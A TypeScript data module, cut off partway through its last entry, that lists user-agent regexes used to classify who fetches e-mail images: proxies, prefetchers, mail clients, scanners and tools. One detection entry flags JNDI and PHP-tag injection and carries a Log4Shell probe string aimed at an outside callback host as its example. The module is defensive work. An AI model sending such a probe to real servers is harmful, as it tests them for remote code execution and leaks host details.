/**
 * User-agent signatures the classifier knows (STYLE §9).
 *
 * A signature decides who is fetching; what that means can still depend on the
 * network (`owners`): a provider proxy or Apple MPP is believed only from its
 * operator's networks (./networks.ts roles), anywhere else it is a forgery.
 *
 * Each `pattern` is a JavaScript RegExp source, compiled once at start-up
 * (case-sensitive: these strings are machine-made and exact). Every signature
 * carries real examples from its source; tests/unit/classify-data.test.ts
 * checks that each example matches its own signature and no other one, so the
 * order of this list does not matter. Keep it sorted by `id`.
 *
 * Tools are classes where one exists (a package-stamped lone version, a
 * language runtime named as the platform, headless engines), not single names.
 *
 * isbot judges everything no signature matches, and mail clients too: a mail
 * client's signature overrides isbot only when isbot objects to nothing but
 * the client's own product token, and only from a network people use (see
 * ../index.ts). isbot reads the user-agent with DEVICE_DESCRIPTORS (below)
 * blanked. ua-parser-js gives the names of browsers.
 */
import type { NetworkRole } from './networks.ts';

export type SignatureRole =
  /** A provider's image proxy that fetches when a person opens the message. */
  | 'proxy'
  /** A mail system fetching on delivery, no person involved. */
  | 'prefetch'
  /** A mail program a person reads with, fetching directly. */
  | 'mail-client'
  /** A security product or link checker. */
  | 'scanner'
  /** A script, HTTP library or headless browser. */
  | 'tool';

export interface UaSignature {
  id: string;
  pattern: string;
  role: SignatureRole;
  /** The intermediary to report as `via`. */
  via?: string;
  /** Believed only from networks with one of these roles; elsewhere the user-agent is forged. */
  owners?: readonly NetworkRole[];
  /** The program, as a user reads it; os/device when the signature alone tells. */
  client: { name: string; os?: string; device?: string };
  /** Real user-agents from the source. */
  examples: readonly string[];
  source: string;
  checked: string;
}

const CHECKED = '2026-11-27';
/** Entries added for issue 14 from public fixture lists. */
const CHECKED_DEC = '2026-12-07';
/** matomo-org/device-detector, Tests/Parser/Client/fixtures (pim.yml, library.yml) and Tests/fixtures, read at c9d7028 (2025-08-24). */
const DD = 'matomo-org/device-detector Tests/Parser/Client/fixtures';
/** ua-parser/uap-core tests/test_ua.yaml, read at e3c5e63 (2026-08-11). */
const UAP = 'ua-parser/uap-core tests/test_ua.yaml';

export const UA_SIGNATURES: readonly UaSignature[] = [
  {
    id: 'airmail',
    pattern: String.raw`^Airmail \d[\d.]* rv:\d+ \(Macintosh;`,
    role: 'mail-client',
    client: { name: 'Airmail' },
    examples: [
      'Airmail 1.4 rv:238 (Macintosh; Mac OS X 10.9.2; hr_HR)',
      'Airmail 1.0 rv:148 (Macintosh; Mac OS X 10.8.3; en_BE)',
    ],
    source: `${DD} pim.yml; ${UAP} (Airmail)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'apple-coremedia',
    // Apple's media framework (AVFoundation) fetching for an app: audio and video, not a mail view.
    pattern: String.raw`^AppleCoreMedia/\d`,
    role: 'tool',
    client: { name: 'Apple\'s media framework' },
    examples: [
      'AppleCoreMedia/1.0.0.15F80 (HomePod; U; CPU OS 11_4 like Mac OS X; fr_fr)',
      'AppleCoreMedia/1.0.0.18J383 (Apple TV; U; CPU OS 14_0 like Mac OS X; en_us)',
    ],
    source: 'matomo-org/device-detector Tests/fixtures (client.type library: "iOS Application", AppleCoreMedia)',
    checked: CHECKED_DEC,
  },
  {
    id: 'apple-mail-cfnetwork',
    // macOS Mail's own fetch through Apple's networking stack (CFNetwork), not a WebKit view.
    pattern: String.raw`^Mail/\d+ CFNetwork/[\d.]+ Darwin/`,
    role: 'mail-client',
    client: { name: 'Apple Mail' },
    examples: [
      'Mail/1816 CFNetwork/673.0.3 Darwin/13.0.0 (x86_64) (Macmini5%2C1)',
    ],
    source: 'matomo-org/device-detector Tests/fixtures (client.type pim: Apple Mail, the native fetch of macOS Mail)',
    checked: CHECKED_DEC,
  },
  {
    id: 'apple-mail-ios',
    // iOS Mail renders with WebKit and, unlike Safari, sends no Version/ or Safari/ token.
    pattern: String.raw`^Mozilla/5\.0 \((?:iPhone|iPad|iPod)[^)]*\) AppleWebKit/[\d.]+ \(KHTML, like Gecko\) Mobile/\w+$`,
    role: 'mail-client',
    client: { name: 'Apple Mail' },
    examples: [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
      'Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
    ],
    source: 'RESEARCH §1: iOS Mail "… AppleWebKit/… (KHTML, like Gecko) Mobile/<build>" with no Safari token (ua-parser/uap-core #528)',
    checked: CHECKED,
  },
  {
    id: 'apple-mail-macos',
    pattern: String.raw`^Mozilla/5\.0 \(Macintosh; Intel Mac OS X [\d_]+\) AppleWebKit/[\d.]+ \(KHTML, like Gecko\)$`,
    role: 'mail-client',
    client: { name: 'Apple Mail', os: 'macOS', device: 'desktop' },
    examples: ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)'],
    source: 'ua-parser/uap-core #528 (Apple Mail with Privacy Protection off: no Safari token)',
    checked: CHECKED,
  },
  {
    id: 'apple-mpp',
    // Exactly this and nothing more since iOS 15 / macOS 12 (2021-09-20).
    pattern: String.raw`^Mozilla/5\.0$`,
    role: 'prefetch',
    via: 'apple-mpp',
    owners: ['apple', 'private-relay'],
    client: { name: 'Apple Mail' },
    examples: ['Mozilla/5.0'],
    source: 'ua-parser/uap-core #509 (MPP user-agent is "Mozilla/5.0"); egress via Apple AS714 and Private Relay operators (blog.apnic.net 2023-01-25); ESP rule: SendGrid sg_machine_open, Klaviyo "Apple Privacy Open"',
    checked: CHECKED,
  },
  {
    id: 'barca',
    pattern: String.raw`^Barca(?:Pro)?/\d`,
    role: 'mail-client',
    client: { name: 'Barca' },
    examples: [
      'Barca/2.8.4400',
      'BarcaPro/1.4 L.1001',
    ],
    source: `${DD} pim.yml (Barca, Pocomail's successor)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'barracuda-sentinel',
    pattern: String.raw`^Barracuda Sentinel\b`,
    role: 'scanner',
    via: 'barracuda',
    client: { name: 'Barracuda Sentinel' },
    examples: ['Barracuda Sentinel (EE)'],
    source: 'matomo-org/device-detector regexes/bots.yml "Barracuda Sentinel"; Braze bot-click filter examples',
    checked: CHECKED,
  },
  {
    id: 'bluemail',
    pattern: String.raw`\bBlueMail/\d`,
    role: 'mail-client',
    client: { name: 'BlueMail' },
    examples: [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) BlueMail/0.10.31 Chrome/61.0.3163.100 Electron/2.0.18 Safari/537.36',
    ],
    source: `${DD} pim.yml (BlueMail)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'crawler-khtml-compatible',
    // Crawlers that imitate Chrome put "compatible; <name>" inside the engine's comment; Chrome itself never does.
    pattern: String.raw`\(KHTML, like Gecko; compatible; `,
    role: 'tool',
    client: { name: 'a crawler' },
    examples: [
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; pageburst) Chrome/109.0.5414.101 Safari/537.36',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app) Chrome/W.X.Y.Z Safari/537.36',
    ],
    source: 'developers.google.com/search/docs/crawling-indexing/overview-google-crawlers (Googlebot: "AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; …)"); omrilotan/isbot fixtures/crawlers.yml (pageburst); matomo-org/device-detector Tests/fixtures/bots.yml (Bluesky)',
    checked: CHECKED_DEC,
  },
  {
    id: 'curl',
    pattern: String.raw`^curl/\d`,
    role: 'tool',
    client: { name: 'curl' },
    examples: ['curl/8.5.0', 'curl/7.68.0'],
    source: 'curl.se docs (default user-agent "curl/VERSION")',
    checked: CHECKED,
  },
  {
    id: 'dart',
    pattern: String.raw`^Dart/\d[\d.]* \(dart:io\)`,
    role: 'tool',
    client: { name: 'a Dart program' },
    examples: [
      'Dart/2.16 (dart:io)',
      'Dart/3.3 (dart:io)',
    ],
    source: `${DD} library.yml (Dart); api.dart.dev dart:io HttpClient.userAgent default "Dart/<version> (dart:io)"`,
    checked: CHECKED_DEC,
  },
  {
    id: 'em-client',
    pattern: String.raw`\beM ?Client/\d`,
    role: 'mail-client',
    client: { name: 'eM Client' },
    examples: [
      'eMClient/9.3.6041.0',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36 eM Client/8.2.1659.0',
    ],
    source: `${DD} pim.yml (eM Client: its native user-agent and its Chromium view)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'fastmail-proxy',
    // Fastmail's image proxy appends its own token to an ordinary Chrome user agent.
    pattern: String.raw` FastmailUA/\d`,
    role: 'proxy',
    via: 'fastmail-proxy',
    owners: ['fastmail'],
    client: { name: 'Fastmail' },
    examples: ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.117 Safari/537.36 FastmailUA/1.0'],
    source: 'fastmail.com/policies/bots (image proxy user agent "… FastmailUA/1.0", fetched when the user opens the message); RESEARCH §7',
    checked: '2026-12-07',
  },
  {
    id: 'foxmail',
    pattern: String.raw`\bFoxmail/\d`,
    role: 'mail-client',
    client: { name: 'Foxmail' },
    examples: [
      'Mozilla/5.0 (Windows NT 6.2; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/101.0.4951.67 Safari/537.36 Foxmail/7.2.25.213',
    ],
    source: `${DD} pim.yml (Foxmail)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'gmail-android-direct',
    pattern: String.raw`^Android-Gmail/\d`,
    role: 'mail-client',
    // Not the proxy: the app fetching directly, from the phone's own network.
    client: { name: 'Gmail' },
    examples: [
      'Android-Gmail/64562652 (sw411dp; 420dpi) (r7 TP1A.220624.014)',
    ],
    source: `${DD} pim.yml (Gmail for Android fetching itself, as for a non-Google account)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'gmail-prefetch',
    // The trailing " Mozilla/5.0" after Edge/12.246 is what sets it apart from a real (2015) Edge.
    pattern: String.raw`^Mozilla/5\.0 \(Windows NT 10\.0; Win64; x64\) AppleWebKit/537\.36 \(KHTML, like Gecko\) Chrome/42\.0\.2311\.135 Safari/537\.36 Edge/12\.246 Mozilla/5\.0$`,
    role: 'prefetch',
    via: 'gmail-prefetch',
    owners: ['google'],
    client: { name: 'Gmail' },
    examples: [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0',
    ],
    source: 'sparkpost.com/blog/gmail-prefetching-images (2021); gmass.co/blog/false-opens-in-gmail (2018)',
    checked: CHECKED,
  },
  {
    id: 'gmail-proxy',
    pattern: String.raw`\(via ggpht\.com GoogleImageProxy\)`,
    role: 'proxy',
    via: 'gmail-proxy',
    owners: ['google'],
    client: { name: 'Gmail' },
    examples: ['Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)'],
    source: 'scientiamobile.com "What is Google Image Proxy"; matomo-org/device-detector regexes/bots.yml; fetched on open: googlesystem.blogspot.com 2013-12, wordtothewise.com 2014-03',
    checked: CHECKED,
  },
  {
    id: 'go-http-client',
    pattern: String.raw`^Go-http-client/\d`,
    role: 'tool',
    client: { name: 'a Go program' },
    examples: ['Go-http-client/1.1', 'Go-http-client/2.0'],
    source: 'pkg.go.dev/net/http (default User-Agent "Go-http-client/1.1")',
    checked: CHECKED,
  },
  {
    id: 'headless-chrome',
    pattern: String.raw`\bHeadlessChrome/\d`,
    role: 'tool',
    client: { name: 'Headless Chrome' },
    examples: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36'],
    source: 'developer.chrome.com/docs/chromium/headless (headless mode reports HeadlessChrome in its user-agent)',
    checked: CHECKED,
  },
  {
    id: 'headless-engines',
    // Engines that render pages for programs: none is a browser a person reads mail in. QtWebKit, which PhantomJS
    // embeds, reports the platform "Unknown" when it has none (on a PC architecture: a server; TVs name an ARM one).
    pattern: String.raw`\b(?:PhantomJS|SlimerJS|jsdom|HtmlUnit|Zombie\.js)/\d|^Mozilla/5\.0 \(Unknown; Linux (?:x86_64|i686)\) AppleWebKit/`,
    role: 'tool',
    client: { name: 'a headless browser' },
    examples: [
      'Mozilla/5.0 (X11; Linux x86_64; rv:21.0) Gecko/20100101 SlimerJS/0.7',
      'Mozilla/5.0 (win32) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/15.2.1',
      'Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1',
      'Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) HLB/1.247',
    ],
    source: `${DD} library.yml (SlimerJS, jsdom, PhantomJS, HtmlUnit); matomo-org/device-detector Tests/fixtures/bots.yml (a monitor on QtWebKit's "Unknown" platform, as PhantomJS reports it)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'hey-proxy',
    // HEY publishes no ranges for it (no `owners`): believed anywhere but rented servers and gateways (network.ts fromOperator).
    pattern: String.raw`^hey\.com/imageproxy `,
    role: 'proxy',
    via: 'hey-proxy',
    client: { name: 'HEY' },
    examples: ['hey.com/imageproxy Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36'],
    source: 'hey.com/image-proxy (HEY fetches the images of e-mails its users view, user agent "hey.com/imageproxy Mozilla/5.0 …"; HEY publishes no ranges); RESEARCH §7',
    checked: '2026-12-07',
  },
  {
    id: 'java-http',
    pattern: String.raw`^(?:Java/\d|Apache-HttpClient/\d)`,
    role: 'tool',
    client: { name: 'a Java program' },
    examples: ['Java/17.0.2', 'Apache-HttpClient/4.5.13 (Java/11.0.16)'],
    source: 'docs.oracle.com HttpURLConnection default "Java/<version>"; hc.apache.org HttpClient default user-agent',
    checked: CHECKED,
  },
  {
    id: 'kmail',
    pattern: String.raw`\bkmail2?/\d`,
    role: 'mail-client',
    client: { name: 'KMail' },
    examples: [
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) kmail2/4.14.2 Safari/534.34',
    ],
    source: `${UAP} (kmail2)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'library-package-version',
    // A lone product whose version is stamped the way package builds stamp it (SemVer pre-release or build
    // metadata, a Maven qualifier, a build number after it): what libraries and services send. Browsers and mail apps name a platform.
    pattern: String.raw`^[A-Za-z][\w.-]*/v?\d+(?:\.\d+)+(?:[-+][\w.+-]+|\.(?:RELEASE|SNAPSHOT|Final|GA)\b| \d{5,})$`,
    role: 'tool',
    client: { name: 'a program library' },
    examples: [
      'Artifactory/7.21.5 72105900',
      'ReactorNetty/0.9.10.RELEASE',
      'containerd/1.5.11+azure-1',
      'containerd/v1.4.13-k3s1',
      'git-annex/10.20221105-g4c291fafb',
      'kiwi-tcms/12.6.1-Enterprise',
    ],
    source: `${DD} library.yml; semver.org §9–10 (pre-release and build metadata after "-" and "+"); Maven version qualifiers (RELEASE, SNAPSHOT, Final, GA)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'lotus-notes',
    pattern: String.raw`\bLotus-Notes/\d`,
    role: 'mail-client',
    client: { name: 'Lotus Notes' },
    examples: [
      'Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)',
    ],
    source: `${DD} pim.yml; ${UAP} (Lotus Notes)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'mailbar',
    pattern: String.raw`^MailBar/\d`,
    role: 'mail-client',
    client: { name: 'MailBar' },
    examples: [
      'MailBar/1.3.2 (Mac OS X Version 10.11.1 (Build 15B42))',
    ],
    source: `${DD} pim.yml; ${UAP} (MailBar)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'mailbird',
    pattern: String.raw`\bMailbird/\d`,
    role: 'mail-client',
    client: { name: 'Mailbird' },
    examples: [
      'Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36 Mailbird/2.4.30.0/',
    ],
    source: `${DD} pim.yml (Mailbird)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'mailmaster',
    pattern: String.raw`\bMailMaster(?:PC|_Android_Mobile)?/\d`,
    role: 'mail-client',
    client: { name: 'Mail Master' },
    examples: [
      'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.110 MailMasterPC/4.15.6.1016 Safari/537.36',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15F79 MailMaster/6.5.3.1210',
    ],
    source: `${DD} pim.yml (NetEase Mail Master)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'mailspring',
    pattern: String.raw`\bMailspring/\d`,
    role: 'mail-client',
    client: { name: 'Mailspring' },
    examples: [
      'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Mailspring/1.7.4 Chrome/69.0.3497.128 Electron/4.2.2 Safari/537.36',
    ],
    source: `${DD} pim.yml (Mailspring)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'ms-office-existence-discovery',
    // HEAD-style link check made by Office, not a rendering of the message.
    pattern: String.raw`^Microsoft Office Existence Discovery$`,
    role: 'scanner',
    via: 'microsoft-office',
    client: { name: 'Microsoft Office link check' },
    examples: ['Microsoft Office Existence Discovery'],
    source: 'learn.microsoft.com (MSDN) "Microsoft Office Existence Discovery" requests; RESEARCH §1',
    checked: CHECKED,
  },
  {
    id: 'naver-mail',
    pattern: String.raw`^NaverMailApp/\d[\d.]* \(Android [\d.]+; [^;()]+\)$`,
    role: 'mail-client',
    client: { name: 'NAVER Mail', os: 'Android', device: 'mobile' },
    examples: [
      'NaverMailApp/2.2.2 (Android 10; SM-G986N)',
    ],
    source: `${DD} pim.yml (NAVER Mail)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'node-http',
    pattern: String.raw`^(?:node-fetch(?:/\d|$)|axios/\d|undici$|node$)`,
    role: 'tool',
    client: { name: 'a Node.js script' },
    examples: ['node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', 'axios/1.6.2', 'node'],
    source: 'node-fetch README (default user-agent); axios lib/adapters/http.js ("axios/" + VERSION); Node.js fetch (undici) sends "node"',
    checked: CHECKED,
  },
  {
    id: 'outlook-android',
    pattern: String.raw`\bOutlook-Android/\d`,
    role: 'mail-client',
    client: { name: 'Outlook', os: 'Android', device: 'mobile' },
    examples: ['Outlook-Android/2.0'],
    source: 'learn.microsoft.com "Securing Outlook for iOS and Android in Exchange Online" (UserAgent Outlook-Android/2.0)',
    checked: CHECKED,
  },
  {
    id: 'outlook-cfnetwork',
    pattern: String.raw`^Outlook/[\d.]+ CFNetwork/[\d.]+ Darwin/`,
    role: 'mail-client',
    client: { name: 'Outlook' },
    examples: [
      'Outlook/16.16.18071205 CFNetwork/902.1 Darwin/17.7.0 (x86_64)',
    ],
    source: `${DD} pim.yml (Microsoft Outlook for Mac, its native fetch)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'outlook-desktop',
    pattern: String.raw`^Microsoft Office/\d+\.\d+ \([^)]*Microsoft (?:Office )?Outlook (?:Mail )?\d`,
    role: 'mail-client',
    client: { name: 'Outlook', os: 'Windows', device: 'desktop' },
    examples: [
      'Microsoft Office/16.0 (Microsoft Outlook 16.0.12329; Pro), Mozilla/4.0 (compatible; ms-office; MSOffice 16)',
      'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)',
      'Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.6525; Pro)',
      'Microsoft Office/12.0 (Windows NT 6.1; Microsoft Office Outlook 12.0.6739; Pro)',
    ],
    source: 'matomo-org/device-detector Tests/fixtures (mail clients: Outlook)',
    checked: CHECKED,
  },
  {
    id: 'outlook-express',
    pattern: String.raw`^(?:Outlook-Express/\d|WindowsMail/\d)`,
    role: 'mail-client',
    client: { name: 'Windows Mail' },
    examples: [
      'WindowsMail/17.5.9600.22013',
      'Outlook-Express/7.0 (MSIE 7.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; TmstmpExt)',
    ],
    source: `${DD} pim.yml (Windows Mail, Outlook Express); ${UAP} (Windows Live Mail sends Outlook-Express/7.0)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'outlook-ios',
    pattern: String.raw`\bOutlook-iOS(?:-Android)?/\d`,
    role: 'mail-client',
    client: { name: 'Outlook', os: 'iOS', device: 'mobile' },
    examples: [
      'Outlook-iOS/2.0',
      'Outlook-iOS/709.2189947.prod.iphone (3.24.0)',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_4 like Mac OS X) AppleWebKit/601.1 (KHTML, like Gecko) Outlook-iOS-Android/1.0 Mobile/13G35 Safari/601.1.46',
    ],
    source: 'learn.microsoft.com "Securing Outlook for iOS and Android in Exchange Online" (UserAgent Outlook-iOS/2.0)',
    checked: CHECKED,
  },
  {
    id: 'outlook-mac',
    pattern: String.raw`^MacOutlook/\d`,
    role: 'mail-client',
    client: { name: 'Outlook', os: 'macOS', device: 'desktop' },
    examples: ['MacOutlook/16.78.23120117 (Intelx64 Mac OS X 14.1.1 (Build 23B81))'],
    source: 'matomo-org/device-detector Tests/fixtures (mail clients: MacOutlook)',
    checked: CHECKED,
  },
  {
    id: 'outlook-msie',
    pattern: String.raw`^Mozilla/4\.0 \(compatible; (?:[^)]*; )?(?:Microsoft Outlook \d|ms-office; MSOffice \d|MSOffice \d+\))`,
    role: 'mail-client',
    client: { name: 'Outlook' },
    examples: [
      'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/6.0; Microsoft Outlook 15.0.4420)',
      'Mozilla/4.0 (compatible; ms-office; MSOffice 16)',
      'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322; .NET CLR 2.0.50727; MSOffice 12)',
    ],
    source: `${UAP} (Outlook for Windows renders with Word/Internet Explorer and says ms-office, MSOffice or Microsoft Outlook)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'postbox',
    pattern: String.raw`(?:\bPostbox/\d|^Postbox \d)`,
    role: 'mail-client',
    client: { name: 'Postbox' },
    examples: [
      'Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10.6; en-US; rv:1.9.1.8) Gecko/20100317 Postbox/1.1.3',
      'Postbox 1.0b14 (Windows/2009072715)',
    ],
    source: `${DD} pim.yml; ${UAP} (Postbox)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'powershell',
    // Invoke-WebRequest / Invoke-RestMethod's default: a browser-like platform part, then the shell's own name.
    pattern: String.raw`\b(?:Windows)?PowerShell/\d`,
    role: 'tool',
    client: { name: 'PowerShell' },
    examples: [
      'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682',
      'Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.1',
    ],
    source: 'PowerShell/PowerShell src/…/WebCmdlet/PSUserAgent.cs ("Mozilla/5.0 (<platform>; <OS>; <culture>) PowerShell/<version>"; WindowsPowerShell/ before PR #4914); learn.microsoft.com Invoke-WebRequest -UserAgent',
    checked: CHECKED_DEC,
  },
  {
    id: 'python-http',
    pattern: String.raw`^(?:python-requests/\d|Python-urllib/\d|python-httpx/\d|Python/[\d.]+ aiohttp/\d)`,
    role: 'tool',
    client: { name: 'a Python script' },
    examples: ['python-requests/2.31.0', 'Python-urllib/3.11', 'python-httpx/0.27.0', 'Python/3.10 aiohttp/3.8.1'],
    source: 'requests.readthedocs.io (default_user_agent "python-requests/x"); docs.python.org urllib.request ("Python-urllib/x.y"); httpx and aiohttp defaults',
    checked: CHECKED,
  },
  {
    id: 'runtime-library',
    // A programming language's runtime named as the platform: a program, not a person's app.
    pattern: String.raw`^[A-Za-z][\w.-]*/(?:PHP|Ruby|Python|Java|Go)/\d|/Python \d+\.\d+\.\d+ \(main, |\bgo/go\d+\.\d+`,
    role: 'tool',
    client: { name: 'a program library' },
    examples: [
      'tcms-api/12.9.1/Python 3.11.8 (main, Feb  7 2024, 04:02:05) [GCC 11.4.0]',
      'IPinfoClient/PHP/3.1.2',
      'IPinfoClient/Ruby/2.2.1',
      'cri-o/1.16.1 go/go1.12.17 os/linux arch/amd64',
    ],
    source: `${DD} library.yml (Kiwi TCMS API, IPinfo, cri-o)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'seamonkey',
    pattern: String.raw`\b(?:SeaMonkey|Iceape)/\d`,
    role: 'mail-client',
    client: { name: 'SeaMonkey' },
    examples: [
      'Mozilla/5.0 (X11; Linux x86_64; rv:29.0) Gecko/20100101 Firefox/29.0 SeaMonkey/2.26a1 Lightning/3.1a1',
      'Mozilla/5.0 (X11; Linux x86_64; rv:10.0.12) Gecko/20130823 Firefox/10.0.11esrpre Iceape/2.7.12',
    ],
    source: `${DD} pim.yml (SeaMonkey, Debian's Iceape: the Mozilla suite with its mail client)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'spicebird',
    pattern: String.raw`\bSpicebird/\d`,
    role: 'mail-client',
    client: { name: 'Spicebird' },
    examples: [
      'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.2pre) Gecko/2009031304 Spicebird/0.7.1',
    ],
    source: `${DD} pim.yml (Spicebird)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'superhuman',
    pattern: String.raw`^Superhuman$`,
    role: 'mail-client',
    client: { name: 'Superhuman' },
    examples: ['Superhuman'],
    source: `${UAP} (Superhuman)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'template-user-agent',
    // Not a program's real name: a template left unfilled ("Gecko/geckotrail Firefox/firefoxversion") or code aimed
    // at the server that logs it (a JNDI lookup; PHP's "<?php" and "<?=" open tags, php.net/manual/en/language.basic-syntax.phptags.php). No browser or mail app sends either.
    pattern: String.raw`\b(?:Gecko|Firefox|Chrome|Safari|AppleWebKit)/[a-z]{4,}|\$\{jndi:|<\?(?:php\b|=)`,
    role: 'tool',
    client: { name: 'a script with a made-up user-agent' },
    examples: [
      'Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion',
      '${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.pro}',
    ],
    source: 'matomo-org/device-detector Tests/fixtures/bots.yml (Generic Bot; Log4Shell probes, CVE-2021-44228, send "${jndi:…}" as the user-agent)',
    checked: CHECKED_DEC,
  },
  {
    id: 'the-bat',
    pattern: String.raw`^The Bat! (?:Voyager )?\d`,
    role: 'mail-client',
    client: { name: 'The Bat!' },
    examples: [
      'The Bat! 4.0.0.22',
      'The Bat! Voyager 4.0.18.4',
    ],
    source: `${DD} pim.yml; ${UAP} (The Bat!)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'thunderbird',
    pattern: String.raw`\b(?:Thunderbird|Icedove)/\d`,
    role: 'mail-client',
    client: { name: 'Thunderbird', device: 'desktop' },
    examples: [
      'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.3.0',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Thunderbird/115.6.0',
      'Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Icedove/24.4.0',
    ],
    source: 'matomo-org/device-detector Tests/fixtures (mail clients: Thunderbird); ua-parser/uap-core tests/test_ua.yaml (Icedove, Debian\'s Thunderbird); RESEARCH §1',
    checked: CHECKED,
  },
  {
    id: 'tracker-sdk',
    // An analytics SDK reporting from inside an app: a library sending on its own.
    pattern: String.raw`TrackerSDK/\d`,
    role: 'tool',
    client: { name: 'a program library' },
    examples: ['Darwin/24.5.0 (Watch7,9; watchOS 11.4) MatomoTrackerSDK/7.7.0'],
    source: `${DD} library.yml (MatomoTracker, Matomo's iOS SDK)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'wget',
    pattern: String.raw`^Wget/\d`,
    role: 'tool',
    client: { name: 'Wget' },
    examples: ['Wget/1.21.4'],
    source: 'gnu.org/software/wget/manual ("Wget/version" identification)',
    checked: CHECKED,
  },
  {
    id: 'yahoo-mail-app',
    // The apps fetching themselves (a message opened with the proxy off, or an app's own view): not the proxy.
    pattern: String.raw`^Yahoo%20Mail/\d+ CFNetwork/[\d.]+ Darwin/[\d.]+$|^YahooMobileMail/\d[\d.]* \(Android Mail; [\d.]+\)|\bjp\.co\.yahoo\.ymail/\d`,
    role: 'mail-client',
    client: { name: 'Yahoo Mail' },
    examples: [
      'Yahoo%20Mail/49268 CFNetwork/1121.2.2 Darwin/19.3.0',
      'YahooMobileMail/1.0 (Android Mail; 1.3.10) (supersonic;HTC;PC36100;2.3.5/GRJ90)',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 15_3_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Mobile/9B176 YJApp-IOS jp.co.yahoo.ymail/7.4.1',
    ],
    source: `${DD} pim.yml (Yahoo Mail for iOS, its native fetch; Yahoo! Mail Japan); ${UAP} (YahooMobileMail)`,
    checked: CHECKED_DEC,
  },
  {
    id: 'yahoo-proxy',
    pattern: String.raw`^YahooMailProxy\b`,
    role: 'proxy',
